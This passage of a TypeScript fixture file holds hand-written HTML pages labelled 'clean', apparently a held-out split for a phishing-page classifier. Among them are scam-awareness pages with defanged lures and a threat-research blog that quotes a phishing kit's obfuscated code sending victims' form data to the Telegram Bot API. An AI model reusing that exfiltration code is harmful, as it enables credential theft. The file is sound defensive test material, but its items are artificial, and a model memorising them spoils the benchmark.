import { type Entry, htmlRoute } from '../entry.js';
import { binRoute, cssRoute, pe } from '../parts/f-kit.js';

/** Held-out pages by author f, family "clean-content" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-clean-article-bank-scam-texts",
    label: "clean",
    kind: "help-article-quotes-lures",
    url: "https://help.harborlinebank.com/security/recognize-scam-texts-and-emails",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>How to recognize scam texts, emails and calls | Harborline Bank Help Center</title>
<meta name="description" content="Examples of real scam messages impersonating Harborline Bank, and what to do if you responded to one.">
<style>
body{margin:0;font-family:"Source Sans 3",Arial,sans-serif;color:#1b2631;background:#fff;line-height:1.6}
.top{background:#0b3d60;color:#fff;padding:14px 32px;display:flex;align-items:center;gap:30px}.top b{font-size:19px}.top a{color:#cfe3f2;text-decoration:none;font-size:14px}
.srch{margin-left:auto}.srch input{padding:7px 12px;border-radius:16px;border:0;width:220px}
.wrap{max-width:1080px;margin:0 auto;display:grid;grid-template-columns:240px 1fr;gap:40px;padding:30px 20px}
aside a{display:block;color:#0b3d60;font-size:14px;margin-bottom:8px;text-decoration:none}
h1{font-size:32px;line-height:1.2;margin-top:0}
.ex{border:1px solid #d5dde5;border-radius:10px;padding:14px 16px;margin:14px 0;background:#f8fafc;position:relative}
.ex:before{content:"SCAM EXAMPLE";position:absolute;top:-10px;left:12px;background:#c0392b;color:#fff;font-size:11px;font-weight:700;padding:1px 8px;border-radius:8px}
.ex .from{font-size:13px;color:#5d6d7e}
.sms{background:#e9e9eb;border-radius:16px;padding:10px 14px;max-width:420px;font-family:-apple-system,Arial,sans-serif;font-size:14px}
.flag{color:#c0392b;font-size:13px;margin-top:6px}
.do{background:#eaf6ee;border-left:4px solid #1e8449;padding:12px 16px}
.foot{background:#f4f6f8;padding:24px 32px;font-size:12px;color:#5d6d7e}
</style>
</head>
<body>
<div class="top"><b>Harborline Bank</b><a href="https://www.harborlinebank.com/">Home</a><a href="/">Help Center</a><a href="/security">Security</a><div class="srch"><input placeholder="Search help"></div></div>
<div class="wrap">
<aside><b>Security</b><a href="/security/report-fraud">Report fraud</a><a href="/security/recognize-scam-texts-and-emails">Recognize scams</a><a href="/security/two-step-verification">2-step verification</a><a href="/security/zelle-safety">Payment app safety</a></aside>
<article>
 <h1>How to recognize scam texts, emails and calls</h1>
 <p>Criminals copy our logo and wording to trick customers into giving away passwords, one-time passcodes or card numbers. Below are real messages our customers reported this quarter. <b>Do not click links in messages like these.</b></p>
 <h2>1. "Your account has been locked" texts</h2>
 <div class="ex"><div class="from">From: +1 (213) 555-0190</div><div class="sms">Harborline Alert: Unusual sign-in attempt detected. Your online access has been suspended. Verify your identity within 24 hrs to avoid permanent closure: hxxps://harborline-secure-verify[.]com/login</div><div class="flag">Red flags: urgency, threat of closure, a link to a domain that isn't harborlinebank.com.</div></div>
 <h2>2. Fake refund or "payment reversal" emails</h2>
 <div class="ex"><div class="from">From: Harborline Bank &lt;no-reply@harborline-refunds.net&gt; · Subject: Pending refund of $489.20</div><p>Dear Customer, we were unable to process a refund to your account. Please confirm your card number, expiry date and CVV using the secure form below so we can complete the transfer.</p><div class="flag">Red flags: we never ask for your full card number or CVV by email; the sender domain is not ours.</div></div>
 <h2>3. "Fraud department" calls asking for a code</h2>
 <div class="ex"><div class="from">Phone call, caller ID spoofed as our 800 number</div><p>"This is the Harborline fraud team. We stopped a $1,200 charge. To cancel it, read me the 6-digit code we just texted you." … "Your account is compromised; move your balance to this safe account while we investigate."</p><div class="flag">Red flags: a real employee will never ask you to read back a code, and there is no such thing as a "safe account".</div></div>
 <h2>What we will never do</h2>
 <ul><li>Ask for your password, PIN or one-time passcode by phone, text, or email.</li><li>Ask you to transfer money to "protect" it.</li><li>Send you a link to "unlock" your account. Always sign in by typing <b>harborlinebank.com</b> or using our app.</li></ul>
 <div class="do"><b>If you responded to a scam:</b> call us at 1-800-555-0134 (24/7), change your password from the app, and forward suspicious texts to 7726 (SPAM) and emails to phishing@harborlinebank.com.</div>
</article>
</div>
<div class="foot">Harborline Bank, N.A. Member FDIC. © 2026 Harborline Financial Corp. Privacy · Terms · Accessibility</div>
</body>
</html>
`,
  },
  {
    id: "f-clean-article-rz-phishing-warnung-de",
    label: "clean",
    kind: "it-phishing-warning",
    url: "https://www.rz.uni-kaltenbrunn.de/sicherheit/phishing/2026-02-postfach-kontingent",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Phishing-Warnung: „Ihr Postfach-Kontingent ist überschritten“ – Rechenzentrum Universität Kaltenbrunn</title>
<style>
body{margin:0;font-family:"Fira Sans",Arial,sans-serif;color:#222;background:#fff;line-height:1.6}
.kopf{background:#00457d;color:#fff;padding:14px 30px}.kopf b{font-size:18px}.kopf small{display:block;opacity:.8}
.nav{background:#e8eef4;padding:8px 30px;font-size:14px}.nav a{color:#00457d;margin-right:16px}
.inh{max-width:820px;margin:30px auto;padding:0 20px}
.datum{color:#666;font-size:14px}
.mail{border:1px solid #ccc;background:#fafafa;padding:16px;font-family:Consolas,monospace;font-size:13px;white-space:pre-wrap;margin:16px 0}
.stempel{display:inline-block;border:3px solid #c00;color:#c00;font-weight:700;padding:2px 10px;transform:rotate(-3deg);margin-bottom:10px}
table{border-collapse:collapse;font-size:14px}td{border:1px solid #ddd;padding:6px 10px}
.fuss{background:#f2f2f2;padding:20px 30px;font-size:12px;color:#555;margin-top:40px}
</style>
</head>
<body>
<div class="kopf"><b>Rechenzentrum</b><small>Universität Kaltenbrunn</small></div>
<div class="nav"><a href="/">Start</a><a href="/dienste/">Dienste</a><a href="/sicherheit/">IT-Sicherheit</a><a href="/sicherheit/phishing/">Phishing-Warnungen</a><a href="/kontakt/">Service-Desk</a></div>
<div class="inh">
 <div class="datum">Veröffentlicht am 11.02.2026 · IT-Sicherheitsteam</div>
 <h1>Phishing-Warnung: „Ihr Postfach-Kontingent ist überschritten“</h1>
 <p>Seit heute Morgen erhalten zahlreiche Angehörige der Universität die folgende E-Mail. Sie stammt <b>nicht</b> vom Rechenzentrum. Der Link führt auf eine gefälschte Anmeldeseite, die bei einem kostenlosen Website-Baukasten gehostet wird und Uni-Kennung und Passwort abgreift.</p>
 <div class="stempel">PHISHING</div>
 <div class="mail">Von: IT Service Desk &lt;it-support@uni-kaltenbrunn-de.com&gt;
Betreff: [WARNUNG] Ihr Postfach-Kontingent ist überschritten (99%)

Sehr geehrte/r Nutzer/in,

Ihr Postfach hat das Speicherlimit von 5 GB überschritten. Neue Nachrichten
werden ab dem 12.02.2026 abgelehnt. Um Ihr Postfach KOSTENLOS auf 100 GB zu
erweitern, bestätigen Sie Ihr Konto innerhalb von 24 Stunden:

   Jetzt Postfach erweitern -> hxxps://rz-kaltenbrunn-mail[.]weebly[.]com/postfach

Mit freundlichen Grüßen
IT Service Desk</div>
 <h2>Woran Sie die Fälschung erkennen</h2>
 <ul><li>Absenderdomain <code>uni-kaltenbrunn-de.com</code> statt <code>uni-kaltenbrunn.de</code>.</li><li>Das Rechenzentrum erweitert Postfächer nie per Link; das Kontingent sehen Sie im Self-Service unter idm.uni-kaltenbrunn.de.</li><li>Druck durch Fristen („innerhalb von 24 Stunden“).</li></ul>
 <h2>Was tun, wenn Sie Ihr Passwort eingegeben haben?</h2>
 <ol><li>Ändern Sie sofort Ihr Passwort unter <b>https://idm.uni-kaltenbrunn.de</b>.</li><li>Prüfen Sie in Webmail unter <i>Einstellungen › Filter</i>, ob Weiterleitungsregeln angelegt wurden.</li><li>Melden Sie sich beim Service-Desk (Tel. 0851 509-1555).</li></ol>
 <h2>Indikatoren</h2>
 <table><tr><td>Absender</td><td>it-support@uni-kaltenbrunn-de[.]com</td></tr><tr><td>Phishing-URL</td><td>hxxps://rz-kaltenbrunn-mail[.]weebly[.]com/postfach</td></tr><tr><td>Status</td><td>Beim Hoster zur Sperrung gemeldet; im Uni-Mailfilter blockiert</td></tr></table>
</div>
<div class="fuss">Rechenzentrum der Universität Kaltenbrunn · Impressum · Datenschutz · Barrierefreiheit</div>
</body>
</html>
`,
  },
  {
    id: "f-clean-blog-telegram-exfil-kit-analysis",
    label: "clean",
    kind: "security-blog-quotes-kit",
    url: "https://research.lanternsec.io/blog/2026/01/anatomy-of-a-telegram-phishing-kit",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Anatomy of a Telegram-exfil phishing kit targeting European banks | Lantern Security Research</title>
<meta property="og:type" content="article">
<style>
body{margin:0;font-family:Charter,"Bitstream Charter",Georgia,serif;color:#1a1a1a;background:#fff;line-height:1.7}
.n{font-family:Inter,Arial,sans-serif;display:flex;align-items:center;gap:20px;padding:16px 32px;border-bottom:1px solid #eee}.n b{font-size:18px}.n a{color:#555;text-decoration:none;font-size:14px}
article{max-width:760px;margin:30px auto;padding:0 20px}
.meta{font-family:Inter,Arial,sans-serif;color:#777;font-size:14px}
h1{font-size:36px;line-height:1.2}
pre{background:#0f172a;color:#e2e8f0;padding:16px;border-radius:8px;overflow:auto;font-size:13px;line-height:1.5;font-family:"JetBrains Mono",Consolas,monospace}
code{font-family:"JetBrains Mono",Consolas,monospace;font-size:.9em;background:#f1f5f9;padding:1px 4px;border-radius:3px}
pre code{background:none;padding:0}
.ioc{font-family:Inter,Arial,sans-serif;font-size:14px;border-collapse:collapse;width:100%}.ioc td{border:1px solid #e5e7eb;padding:6px 10px}
figure{margin:20px 0;font-family:Inter,Arial,sans-serif;font-size:13px;color:#666}
.box{border:1px solid #e5e7eb;border-radius:8px;padding:16px;background:#fafafa;font-family:Inter,Arial,sans-serif;font-size:14px}
footer{font-family:Inter,Arial,sans-serif;font-size:13px;color:#777;text-align:center;padding:40px}
</style>
</head>
<body>
<div class="n"><b>Lantern Security</b><a href="/blog">Research</a><a href="/advisories">Advisories</a><a href="/about">About</a></div>
<article>
 <div class="meta">January 28, 2026 · Threat Intelligence · 9 min read</div>
 <h1>Anatomy of a Telegram-exfil phishing kit targeting European banks</h1>
 <p>Over the last two months we tracked more than 340 deployments of a single phishing kit family impersonating savings banks and cooperative banks in Germany, Austria and the Netherlands. The kit is sold on Telegram for about 150 USDT and is notable for three things: a three-stage flow (credentials → personal data → card), a crude headless-browser check, and exfiltration straight to the Telegram Bot API instead of a PHP mailer.</p>
 <h2>Stage 0: cloaking</h2>
 <p>The first thing the page does is decide whether you are a victim or a scanner. The check is trivial, but it still defeats a surprising number of URL scanners:</p>
<pre><code>if (navigator.webdriver || /HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent)) {
  location.replace('https://www.&lt;real-bank&gt;.de/');
  return;
}</code></pre>
 <h2>Stage 1–3: collection and exfiltration</h2>
 <p>Each step serialises the form and posts it to the bot. The token and chat ID are split into an array of hex-escaped strings – again, just enough to dodge naive string matching:</p>
<pre><code>var _c = ['\\x61\\x70\\x69\\x2e\\x74\\x65\\x6c\\x65\\x67\\x72\\x61\\x6d\\x2e\\x6f\\x72\\x67', '/bot',
           '&lt;BOT_TOKEN_REDACTED&gt;', '/sendMessage', '&lt;CHAT_ID_REDACTED&gt;'];
function send(step) {
  var fd = new FormData(document.getElementById('f')), t = '[VR] ' + step + '\\n';
  fd.forEach(function (v, k) { if (v) t += k + ': ' + v + '\\n'; });
  return fetch('https://' + _c[0] + _c[1] + _c[2] + _c[3], {
    method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({chat_id: _c[4], text: t})
  });
}</code></pre>
 <p>Because the victim's browser talks to <code>api.telegram.org</code> directly, there is no attacker-controlled backend to take down; the operator just reads the chat. We reported the bots to Telegram; most were banned within 48 hours, and the operators rotated tokens within hours.</p>
 <figure><div class="box">Stage flow: <b>Login (VR-NetKey + PIN)</b> → <b>Personal data (name, DOB, mobile)</b> → <b>SecureGo plus activation code + card PIN</b> → redirect to the real bank's security page.</div><figcaption>Figure 1 – the kit's three-stage flow.</figcaption></figure>
 <h2>Detection notes</h2>
 <ul><li>Look for client-side requests to <code>api.telegram.org/bot*/sendMessage</code> from pages that are not Telegram.</li><li>Forms asking for a card PIN on a web page are never legitimate.</li><li>Kits frequently live on free hosting (<code>*.web.app</code>, <code>*.pages.dev</code>, <code>*.netlify.app</code>) for a few hours at most.</li></ul>
 <h2>IOCs</h2>
 <table class="ioc"><tr><td>Kit hash (zip, SHA-256)</td><td>3b0f…c91e (full list on GitHub)</td></tr><tr><td>Panel title</td><td>"VRX Panel v4"</td></tr><tr><td>Hosting</td><td>Firebase Hosting, Cloudflare Pages, Netlify</td></tr></table>
 <p>The complete IOC list and a YARA rule for the kit archive are available in our <a href="https://github.com/lanternsec/iocs">public IOC repository</a>.</p>
</article>
<footer>© 2026 Lantern Security GmbH · This research is published for defensive purposes.</footer>
</body>
</html>
`,
  },
  {
    id: "f-clean-article-banco-nunca-pediremos-es",
    label: "clean",
    kind: "bank-fraud-awareness",
    url: "https://www.bancodelsur-andalucia.es/seguridad/fraudes-habituales",
    body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Fraudes habituales: smishing, vishing y falsas webs | Banco del Sur</title>
<style>
body{margin:0;font-family:"Nunito Sans",Arial,sans-serif;color:#212b36;background:#fff;line-height:1.65}
.cab{display:flex;align-items:center;padding:14px 32px;border-bottom:1px solid #e6e9ec;gap:24px}
.cab b{font-size:20px;color:#b71c1c}.cab a{color:#212b36;text-decoration:none;font-size:14px}.cab .ac{margin-left:auto;background:#b71c1c;color:#fff;padding:8px 18px;border-radius:20px}
.hero{background:#fbe9e7;padding:36px 32px}.hero h1{margin:0;font-size:32px;max-width:760px}
.c{max-width:900px;margin:30px auto;padding:0 20px}
.tar{display:grid;grid-template-columns:1fr 1fr;gap:18px}
.t{border:1px solid #e6e9ec;border-radius:12px;padding:18px}
.t h3{margin-top:0;color:#b71c1c}
.msj{background:#f4f6f8;border-radius:12px;padding:10px 14px;font-size:14px;font-style:italic;margin:8px 0}
.nunca{background:#212b36;color:#fff;border-radius:12px;padding:20px;margin-top:24px}
.nunca li{margin-bottom:6px}
.pie{background:#f4f6f8;padding:24px 32px;font-size:12px;color:#637381;margin-top:40px}
</style>
</head>
<body>
<div class="cab"><b>Banco del Sur</b><a href="/particulares">Particulares</a><a href="/empresas">Empresas</a><a href="/seguridad">Seguridad</a><a class="ac" href="https://bancaonline.bancodelsur-andalucia.es/acceso">Acceso clientes</a></div>
<div class="hero"><h1>Fraudes habituales: cómo reconocerlos y qué hacer</h1></div>
<div class="c">
 <p>Los ciberdelincuentes suplantan a Banco del Sur por SMS, correo electrónico, llamadas y redes sociales. Estos son los mensajes que más nos reportan nuestros clientes:</p>
 <div class="tar">
  <div class="t"><h3>Smishing (SMS falso)</h3><div class="msj">"BANCO DEL SUR: Se ha detectado un acceso no autorizado a su cuenta. Si no ha sido usted, verifique sus datos en: bdsur-seguridad-clientes.com"</div><p>El enlace lleva a una copia de nuestra web que roba tus claves y el código de firma.</p></div>
  <div class="t"><h3>Vishing (llamada falsa)</h3><div class="msj">"Le llamamos del departamento de fraude. Para anular el cargo de 950 € necesito que me dicte el código que le acaba de llegar por SMS."</div><p>Aunque el número parezca el nuestro, puede estar falsificado.</p></div>
  <div class="t"><h3>Falsa actualización de la app</h3><div class="msj">"Su aplicación dejará de funcionar. Descargue la nueva versión aquí (archivo .apk)."</div><p>Solo publicamos nuestra app en Google Play y App Store.</p></div>
  <div class="t"><h3>Falso reembolso</h3><div class="msj">"Tiene un reembolso pendiente de 127,40 €. Introduzca los datos de su tarjeta para recibirlo."</div><p>Nunca necesitas el CVV para recibir dinero.</p></div>
 </div>
 <div class="nunca"><b>Banco del Sur nunca te pedirá:</b><ul><li>tus claves de acceso, PIN o códigos de firma por teléfono, SMS o email;</li><li>que instales aplicaciones de control remoto (AnyDesk, TeamViewer…) para "ayudarte";</li><li>que traspases tu dinero a una "cuenta segura".</li></ul>¿Has sido víctima? Llama al <b>900 100 200</b> (24 h) y bloquea tus tarjetas desde la app.</div>
</div>
<div class="pie">Banco del Sur, S.A. · Avenida de la Constitución 20, 41004 Sevilla · Aviso legal · Privacidad · Política de cookies</div>
</body>
</html>
`,
  },
  {
    id: "f-clean-helpdesk-kb-powershell-oneliners",
    label: "clean",
    kind: "it-helpdesk-commands",
    url: "https://support.quillfield-partners.com/kb/KB0012044-fix-outlook-and-vpn-issues",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>KB0012044 – Fix common Outlook, Teams and VPN issues with PowerShell | Quillfield IT Service Portal</title>
<link rel="stylesheet" href="/styles/sp_kb.css">
</head>
<body>
<header class="hd"><span class="qf">Quillfield Partners</span><span class="sp">IT Service Portal</span><nav><a href="/sp?id=index">Home</a><a href="/sp?id=sc_home">Request something</a><a href="/kb">Knowledge</a><a href="/sp?id=my_requests">My tickets</a></nav><span class="user">Signed in as r.patel</span></header>
<main class="kb">
 <div class="crumb">Knowledge › Workplace › Windows</div>
 <h1>Fix common Outlook, Teams and VPN issues with PowerShell</h1>
 <div class="meta">KB0012044 · Updated 3 days ago · Author: Service Desk · 1,284 views · Audience: all employees on managed Windows laptops</div>
 <div class="callout">These commands only run against your own user profile and are safe to use on company-managed devices. <b>The Service Desk will never ask you to run commands from an email, a chat message from someone outside Quillfield, or a website "verification" popup.</b> If in doubt, open a ticket.</div>
 <h2>1. Reset the Outlook profile cache</h2>
 <p>Close Outlook, open <b>Windows PowerShell</b> from the Start menu (not as administrator) and run:</p>
 <div class="code"><pre id="c1">Get-Process outlook -ErrorAction SilentlyContinue | Stop-Process; Remove-Item "$env:LOCALAPPDATA\\Microsoft\\Outlook\\*.ost" -Confirm</pre><button data-c="c1">Copy</button></div>
 <h2>2. Clear the Teams cache (new Teams)</h2>
 <div class="code"><pre id="c2">Stop-Process -Name ms-teams -ErrorAction SilentlyContinue; Remove-Item "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams" -Recurse -Force</pre><button data-c="c2">Copy</button></div>
 <h2>3. VPN won't connect after a password change</h2>
 <div class="code"><pre id="c3">ipconfig /flushdns; Get-VpnConnection -Name "Quillfield AOVPN" | Format-List Name,ConnectionStatus,ServerAddress</pre><button data-c="c3">Copy</button></div>
 <p>If the status stays <code>Disconnected</code>, restart and try again on a wired or home network before contacting us.</p>
 <h2>4. Re-run the Company Portal health check</h2>
 <p>This downloads our signed health-check script from the internal software share and runs it:</p>
 <div class="code"><pre id="c4">powershell -ExecutionPolicy Bypass -File "\\\\fs01.corp.quillfield-partners.com\\software$\\scripts\\Invoke-QFHealthCheck.ps1"</pre><button data-c="c4">Copy</button></div>
 <p class="small">The script is signed by "Quillfield Partners LLP Code Signing" – PowerShell will refuse to run it if the signature does not match.</p>
 <h2>Still stuck?</h2>
 <p>Raise a ticket via <a href="/sp?id=sc_cat_item&amp;sys_id=incident">Report an issue</a> or call the Service Desk on ext. 4400 (+44 20 7946 0440 from outside).</p>
 <div class="rate">Was this article helpful? <button>Yes</button> <button>No</button></div>
</main>
<footer class="ft">Quillfield Partners LLP · Internal use · <a href="/sp?id=privacy">Privacy notice</a></footer>
<script>
document.querySelectorAll('.code button').forEach(function(b){b.addEventListener('click',function(){
 var t=document.getElementById(b.dataset.c).textContent;
 navigator.clipboard.writeText(t).then(function(){b.textContent='Copied';setTimeout(function(){b.textContent='Copy'},1500)}).catch(function(){});
})});
</script>
</body>
</html>
`,
    routes: {
      "support.quillfield-partners.com/styles/sp_kb.css": cssRoute(`body{margin:0;font-family:"Segoe UI",Arial,sans-serif;color:#1d2733;background:#f4f5f7}.hd{background:#293e40;color:#fff;display:flex;align-items:center;gap:16px;padding:12px 28px}.qf{font-weight:700}.sp{opacity:.8;border-left:1px solid #5f7a7c;padding-left:16px}.hd nav{margin-left:30px}.hd nav a{color:#d6e4e5;margin-right:16px;text-decoration:none;font-size:14px}.user{margin-left:auto;font-size:13px;opacity:.8}.kb{max-width:860px;margin:24px auto;background:#fff;padding:30px;border-radius:4px}.crumb,.meta{font-size:13px;color:#6b7785}h1{font-size:26px}.callout{background:#fff8e1;border-left:4px solid #f0b400;padding:12px;font-size:14px}.code{position:relative;margin:10px 0}.code pre{background:#1e1e1e;color:#e6e6e6;padding:14px;border-radius:4px;overflow:auto;font-size:13px;margin:0}.code button{position:absolute;top:8px;right:8px;background:#3a3d41;color:#fff;border:0;border-radius:3px;padding:4px 10px;font-size:12px;cursor:pointer}.small{font-size:13px;color:#6b7785}.rate{margin-top:30px;font-size:14px}.ft{text-align:center;font-size:12px;color:#6b7785;padding:20px}
`),
    },
  },
  {
    id: "f-clean-vendor-download-fernweh-photo",
    label: "clean",
    kind: "vendor-download",
    url: "https://www.fernwehphoto.com/download/windows",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Download Fernweh Photo 6.4 for Windows</title>
<meta name="description" content="Download the Fernweh Photo RAW editor for Windows 10 and 11. 30-day free trial.">
<style>
body{margin:0;font-family:"DM Sans",Arial,sans-serif;color:#1c1c1e;background:#fff}
.n{display:flex;align-items:center;gap:28px;padding:18px 40px}.n b{font-size:20px}.n b span{color:#e07a3f}.n a{color:#555;text-decoration:none;font-size:15px}.n .buy{margin-left:auto;background:#1c1c1e;color:#fff;padding:9px 18px;border-radius:20px}
.h{background:linear-gradient(135deg,#fdf0e7,#eef3fb);padding:60px 40px;text-align:center}
.h h1{font-size:42px;margin:0 0 10px}.h p{color:#555}
.dl{display:inline-block;margin-top:22px;background:#e07a3f;color:#fff;padding:15px 36px;border-radius:30px;text-decoration:none;font-weight:700;font-size:17px}
.meta{font-size:13px;color:#666;margin-top:12px}
.meta code{background:#fff;padding:2px 6px;border-radius:4px;font-size:12px}
.g{max-width:960px;margin:40px auto;display:grid;grid-template-columns:repeat(3,1fr);gap:24px;padding:0 20px}
.g div{border:1px solid #eee;border-radius:12px;padding:20px;font-size:14px}
.g h3{margin-top:0}
.f{border-top:1px solid #eee;text-align:center;font-size:12px;color:#888;padding:30px}
</style>
</head>
<body>
<div class="n"><b>fernweh<span>photo</span></b><a href="/features">Features</a><a href="/pricing">Pricing</a><a href="/learn">Learn</a><a href="/support">Support</a><a class="buy" href="/pricing">Buy</a></div>
<div class="h">
 <h1>Thanks for downloading Fernweh Photo</h1>
 <p>Your download should start automatically. Fernweh Photo 6.4.2 for Windows 10 and 11 (64-bit).</p>
 <a class="dl" id="dl" href="https://downloads.fernwehphoto.com/releases/6.4.2/FernwehPhoto-6.4.2-x64-Setup.exe">Download again</a>
 <div class="meta">182 MB · Signed by "Fernweh Software GmbH" · SHA-256 <code>9f2d7c41…e08b</code> · <a href="/download/mac">macOS version</a> · <a href="/release-notes">Release notes</a></div>
</div>
<div class="g">
 <div><h3>1. Run the installer</h3>Open <b>FernwehPhoto-6.4.2-x64-Setup.exe</b> from your Downloads folder and follow the steps.</div>
 <div><h3>2. Start your trial</h3>All features are unlocked for 30 days. No credit card required.</div>
 <div><h3>3. Import your photos</h3>Fernweh reads RAW files from more than 900 cameras, including the latest Sony, Canon, Nikon and Fujifilm bodies.</div>
</div>
<div class="f">© 2026 Fernweh Software GmbH, Freiburg im Breisgau · Imprint · Privacy · EULA</div>
<script>setTimeout(function(){location.href=document.getElementById('dl').href},1500);</script>
</body>
</html>
`,
    routes: {
      "downloads.fernwehphoto.com/releases/6.4.2/FernwehPhoto-6.4.2-x64-Setup.exe": binRoute(pe({ company: 'Fernweh Software GmbH', product: 'Fernweh Photo', version: '6.4.2.1180', original: 'FernwehPhoto-6.4.2-x64-Setup.exe', extra: 'Inno Setup Setup Data (6.3.0)\0Fernweh Photo 6.4.2\0https://www.fernwehphoto.com/\0' }), 'application/vnd.microsoft.portable-executable', 'FernwehPhoto-6.4.2-x64-Setup.exe'),
    },
  },
  {
    id: "f-clean-remote-support-helpbridge-join",
    label: "clean",
    kind: "remote-support-vendor",
    url: "https://join.helpbridge.com/",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Join a support session | HelpBridge</title>
<style>
body{margin:0;font-family:"Inter",Arial,sans-serif;background:#f3f6fa;color:#142033}
.n{display:flex;align-items:center;padding:16px 36px;background:#fff;border-bottom:1px solid #e3e8ef}.n b{font-size:19px;color:#1565c0}.n a{margin-left:auto;color:#555;font-size:14px}
.c{max-width:520px;margin:50px auto;background:#fff;border-radius:14px;padding:34px;text-align:center;box-shadow:0 2px 12px rgba(0,0,0,.05)}
h1{font-size:26px;margin:0 0 8px}.s{color:#5a6a80}
.code{display:flex;gap:8px;justify-content:center;margin:22px 0}.code input{width:44px;height:54px;text-align:center;font-size:24px;border:1px solid #b9c4d2;border-radius:8px}
.go{background:#1565c0;color:#fff;border:0;border-radius:8px;padding:13px 30px;font-size:16px;cursor:pointer}
.warn{text-align:left;background:#fff4e5;border-radius:10px;padding:14px;font-size:13px;margin-top:24px;line-height:1.5}
.sm{font-size:12px;color:#7a879a;margin-top:16px}
</style>
</head>
<body>
<div class="n"><b>HelpBridge</b><a href="https://www.helpbridge.com/">helpbridge.com</a></div>
<div class="c">
 <h1>Join a support session</h1>
 <p class="s">Enter the 6-digit code your technician gave you.</p>
 <form id="f" action="/session" method="get"><div class="code"><input name="d1" maxlength="1"><input name="d2" maxlength="1"><input name="d3" maxlength="1"><input name="d4" maxlength="1"><input name="d5" maxlength="1"><input name="d6" maxlength="1"></div>
 <button class="go">Join session</button></form>
 <p class="sm">Joining downloads the small HelpBridge Customer app (2.1 MB, signed by HelpBridge Inc.). You can end the session at any time, and the app removes itself afterwards.</p>
 <div class="warn"><b>Only continue if you contacted the support team yourself.</b> Scammers pose as banks, Microsoft, Amazon or tax authorities and ask victims to install remote-access tools. If someone called you unexpectedly and asked you to visit this page, hang up. <a href="https://www.helpbridge.com/trust/scams">Learn about tech support scams</a>.</div>
</div>
<script>
document.querySelectorAll('.code input').forEach(function(i,n,a){i.oninput=function(){if(i.value&&a[n+1])a[n+1].focus()}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var c='';document.querySelectorAll('.code input').forEach(function(i){c+=i.value});if(!/^\\d{6}$/.test(c))return;location.href='/session/'+c};
</script>
</body>
</html>
`,
    routes: {
      "join.helpbridge.com/session/482913": htmlRoute(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Starting session | HelpBridge</title><style>body{font-family:Inter,Arial,sans-serif;background:#f3f6fa;text-align:center;padding-top:80px;color:#142033}a{color:#1565c0}</style></head><body><h2>Session 482 913 with Alex from Nordlicht Hosting Support</h2><p>Your download should start automatically. Open <b>HelpBridgeCustomer.exe</b> and click <b>Allow</b> when prompted.</p><p><a href="https://dl.helpbridge.com/customer/HelpBridgeCustomer.exe">Download manually</a></p><script>setTimeout(function(){location.href='https://dl.helpbridge.com/customer/HelpBridgeCustomer.exe'},1200)</script></body></html>
`),
      "dl.helpbridge.com/customer/HelpBridgeCustomer.exe": binRoute(pe({ company: 'HelpBridge Inc.', product: 'HelpBridge Customer', version: '4.12.0.301', original: 'HelpBridgeCustomer.exe', arch: 'x86' }), 'application/octet-stream', 'HelpBridgeCustomer.exe'),
    },
  },
  {
    id: "f-clean-lottery-cantabrico-comprobar",
    label: "clean",
    kind: "lottery-operator",
    url: "https://www.loteriasdelcantabrico.es/resultados/sorteo-extraordinario-san-valentin",
    body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Resultados Sorteo Extraordinario San Valentín 2026 – Comprobar décimo | Loterías del Cantábrico</title>
<style>
body{margin:0;font-family:"Roboto",Arial,sans-serif;background:#f4f1ec;color:#222}
.cb{background:#0a3d62;color:#fff;padding:14px 30px;display:flex;align-items:center;gap:24px}.cb b{font-size:20px}.cb b span{color:#f6b93b}.cb a{color:#d6e4f0;font-size:14px;text-decoration:none}
.juego{margin-left:auto;background:#f6b93b;color:#0a3d62 !important;padding:8px 16px;border-radius:20px;font-weight:700}
.c{max-width:960px;margin:30px auto;padding:0 20px}
h1{font-size:30px;margin:0 0 6px}.f{color:#666}
.prem{background:#fff;border-radius:12px;padding:24px;margin:20px 0;display:grid;grid-template-columns:repeat(3,1fr);gap:16px;text-align:center}
.prem div b{display:block;font-size:32px;color:#0a3d62;letter-spacing:3px}.prem small{color:#666}
.comp{background:#0a3d62;color:#fff;border-radius:12px;padding:24px}
.comp input{padding:12px;font-size:20px;width:160px;letter-spacing:4px;border:0;border-radius:6px}
.comp button{padding:12px 22px;background:#f6b93b;border:0;border-radius:6px;font-weight:700;font-size:15px;margin-left:8px;cursor:pointer}
#res{margin-top:14px;font-size:16px;min-height:22px}
.aviso{background:#fff;border-left:5px solid #e55039;padding:14px;margin-top:20px;font-size:14px}
.jr{font-size:12px;color:#555;margin-top:24px;display:flex;gap:12px;align-items:center}
.jr span{border:2px solid #555;border-radius:50%;width:30px;height:30px;display:flex;align-items:center;justify-content:center;font-weight:700}
.pie{text-align:center;font-size:12px;color:#777;padding:30px}
</style>
</head>
<body>
<div class="cb"><b>Loterías del <span>Cantábrico</span></b><a href="/juegos">Juegos</a><a href="/resultados">Resultados</a><a href="/puntos-de-venta">Puntos de venta</a><a class="juego" href="https://juego.loteriasdelcantabrico.es/acceso">Mi cuenta</a></div>
<div class="c">
